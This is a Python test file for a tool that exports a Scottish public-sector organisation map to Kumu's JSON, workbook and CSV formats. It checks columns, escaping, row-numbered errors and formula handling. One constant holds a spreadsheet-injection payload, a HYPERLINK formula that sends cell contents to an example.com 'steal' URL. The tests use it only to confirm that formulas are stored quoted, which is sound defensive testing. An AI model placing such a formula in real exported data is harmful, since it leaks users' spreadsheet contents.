"""Kumu and spreadsheets: the workbook is laid out as Kumu imports it, a formula in a
name cannot run in a spreadsheet yet comes back intact, and a bad row is named by its
sheet and row number. (The round trip of the real map is in test_interop.py.)"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from govmap.errors import SeedValidationError
from govmap.interop import export_as, read_dataset
from govmap.interop.kumu import CONNECTIONS, ELEMENTS
from govmap.model import Dataset, Entity
from govmap.seed import default_seed_dir, read_seed

KUMU_FORMATS = ["kumu-json", "kumu-xlsx", "kumu-csv"]
FORMULA = '=HYPERLINK("https://example.com/steal?x="&A1,"click")'


@pytest.fixture(scope="module")
def dataset() -> Dataset:
    return read_seed(default_seed_dir())


@pytest.fixture(scope="module")
def workbook(dataset: Dataset) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(export_as(dataset, "kumu-xlsx")))


def sheet_rows(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[dict[str, object]]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def with_entity(dataset: Dataset, **fields: object) -> Dataset:
    extra = Entity.model_validate({"id": "formula-board", "kind": "body", "type": "board",
                                   "scope": "scottish_public_sector", **fields})
    return Dataset(entities=[*dataset.entities, extra], relations=dataset.relations)


def back(dataset: Dataset, name: str) -> Dataset:
    return read_dataset(export_as(dataset, name), name, "map")


def test_the_workbook_has_kumus_sheets_and_columns(workbook: openpyxl.Workbook) -> None:
    assert workbook.sheetnames == ["Elements", "Connections"]
    elements, connections = workbook["Elements"], workbook["Connections"]
    assert [c.value for c in elements[1]][:7] == ["ID", "Label", "Type", "Description", "Tags",
                                                  "govmap kind", "govmap type"]
    assert [c.value for c in connections[1]][:5] == ["From", "To", "Type", "Direction", "Label"]
    assert [c.value for c in elements[1]] == ELEMENTS.columns
    assert [c.value for c in connections[1]] == CONNECTIONS.columns
    for sheet in (elements, connections):
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.freeze_panes == "A2"
        assert 10 <= sheet.column_dimensions["A"].width <= 60


def test_a_known_element_and_connection(workbook: openpyxl.Workbook, dataset: Dataset) -> None:
    elements = {row["ID"]: row for row in sheet_rows(workbook["Elements"])}
    government = elements["scottish-government"]
    assert government["Label"] == "Scottish Government"
    assert government["Type"] == "Government"
    assert government["Tags"] == "body|government"
    assert (government["govmap kind"], government["govmap type"]) == ("body", "government")
    assert government["scope"] == "scottish_public_sector"
    assert json.loads(str(government["aliases"]))[0] == "The Scottish Government"
    assert len(elements) == len(dataset.entities)

    connections = sheet_rows(workbook["Connections"])
    reports = next(r for r in connections if r["Type"] == "REPORTS_TO")
    relation = next(r for r in dataset.relations if r.type == "REPORTS_TO")
    assert (reports["From"], reports["To"]) == (relation.source, relation.target)
    assert (reports["Direction"], reports["Label"]) == ("directed", "reports to")
    assert reports["strength"] == str(relation.strength)
    assert len(connections) == len(dataset.relations)


def test_kumu_json_is_kumus_import_layout(dataset: Dataset) -> None:
    document = json.loads(export_as(dataset, "kumu-json"))
    assert set(document) == {"elements", "connections"}
    element = next(e for e in document["elements"] if e["id"] == "scottish-government")
    assert (element["label"], element["type"], element["tags"]) == (
        "Scottish Government", "Government", ["body", "government"])
    connection = document["connections"][0]
    assert {"from", "to", "type", "direction"} <= set(connection)
    assert connection["direction"] == "directed"


@pytest.mark.parametrize("name", KUMU_FORMATS)
def test_a_formula_in_a_name_comes_back_intact(dataset: Dataset, name: str) -> None:
    tricky = with_entity(dataset, name=FORMULA, description="+44 131 244 4000",
                         aliases=["@SUM(A1)", "'=already quoted", "'tis"])
    assert sorted(back(tricky, name).entities, key=lambda e: e.id) == sorted(
        tricky.entities, key=lambda e: e.id)


def test_a_formula_is_stored_quoted_in_the_workbook(dataset: Dataset) -> None:
    content = export_as(with_entity(dataset, name=FORMULA, description="-1"), "kumu-xlsx")
    rows = openpyxl.load_workbook(io.BytesIO(content))["Elements"]
    row = next(r for r in rows.iter_rows(min_row=2) if r[0].value == "formula-board")
    assert (row[1].value, row[1].data_type) == ("'" + FORMULA, "s")
    assert row[3].value == "'-1"


def test_a_formula_is_stored_quoted_in_the_csv(dataset: Dataset) -> None:
    content = export_as(with_entity(dataset, name=FORMULA), "kumu-csv")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sorted(archive.namelist()) == ["connections.csv", "elements.csv"]
        text = archive.read("elements.csv").decode("utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["ID"] == "formula-board")
    assert row["Label"] == "'" + FORMULA


def test_text_a_workbook_cannot_store_is_escaped_and_restored(dataset: Dataset) -> None:
    name = "bell\x07, _x0041_, _x005F_, _x0041_x0042_ and _x0041\x01"
    odd = with_entity(dataset, name=name, description="tab\tline\nend")
    found = {e.id: e for e in back(odd, "kumu-xlsx").entities}["formula-board"]
    assert (found.name, found.description) == (name, "tab\tline\nend")


def edited_workbook(dataset: Dataset, row: int, column: str, value: object) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(export_as(dataset, "kumu-xlsx")))
    sheet = book["Connections"]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=row, column=header.index(column) + 1, value=value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_bad_row_is_named_by_sheet_and_row(tiny_dataset: Dataset) -> None:
    content = edited_workbook(tiny_dataset, 5, "Type", "REPORT_TO")
    with pytest.raises(SeedValidationError) as caught:
        read_dataset(content, "kumu-xlsx", "map.xlsx")
    [problem] = caught.value.problems
    assert (problem.file, problem.line) == ("map.xlsx [Connections]", 5)
    assert "did you mean REPORTS_TO" in problem.message


def test_a_bad_csv_row_is_named_by_file_and_line(tiny_dataset: Dataset) -> None:
    with zipfile.ZipFile(io.BytesIO(export_as(tiny_dataset, "kumu-csv"))) as archive:
        members = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    lines = members["connections.csv"].splitlines(keepends=True)
    assert ",FUNDS," in lines[4]  # line 5: the fourth connection
    lines[4] = lines[4].replace(",FUNDS,", ",FUND,")
    members["connections.csv"] = "".join(lines)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    with pytest.raises(SeedValidationError) as caught:
        read_dataset(out.getvalue(), "kumu-csv", "map.kumu.zip")
    [problem] = caught.value.problems
    assert (problem.file, problem.line) == ("map.kumu.zip [connections.csv]", 5)


def test_an_unknown_column_is_named_not_dropped(tiny_dataset: Dataset) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export_as(tiny_dataset, "kumu-xlsx")))
    sheet = book["Elements"]
    sheet.cell(row=1, column=sheet.max_column + 1, value="Colour")
    sheet.cell(row=3, column=sheet.max_column, value="red")
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SeedValidationError) as caught:
        read_dataset(out.getvalue(), "kumu-xlsx", "map.xlsx")
    problem = caught.value.problems[0]  # then the connections of the element refused
    assert (problem.file, problem.line) == ("map.xlsx [Elements]", 3)
    assert (problem.field, problem.message) == ("entities[1].Colour", "Extra inputs are not permitted")


def test_a_value_without_a_header_is_named_not_dropped(tiny_dataset: Dataset) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export_as(tiny_dataset, "kumu-xlsx")))
    sheet = book["Connections"]
    sheet.cell(row=4, column=sheet.max_column + 2, value="stray")
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SeedValidationError) as caught:
        read_dataset(out.getvalue(), "kumu-xlsx", "map.xlsx")
    [problem] = caught.value.problems
    assert (problem.file, problem.line) == ("map.xlsx [Connections]", 4)
    assert problem.field == "relations[2].column N"


def test_kumus_shown_columns_are_not_read_back(tiny_dataset: Dataset) -> None:
    """Type, Tags, Direction and Label are derived for Kumu's legend: editing them
    changes nothing, as govmap kind, govmap type and the connection's Type decide."""
    content = edited_workbook(tiny_dataset, 2, "Label", "is whatever")
    assert read_dataset(content, "kumu-xlsx", "map.xlsx").relations == tiny_dataset.relations


def test_a_workbook_without_kumus_sheets_is_refused() -> None:
    book = openpyxl.Workbook()
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SeedValidationError, match="no sheet named Elements or Connections"):
        read_dataset(out.getvalue(), "kumu-xlsx", "empty.xlsx")


def test_the_csv_zip_is_the_same_bytes_each_time(tiny_dataset: Dataset) -> None:
    assert export_as(tiny_dataset, "kumu-csv") == export_as(tiny_dataset, "kumu-csv")
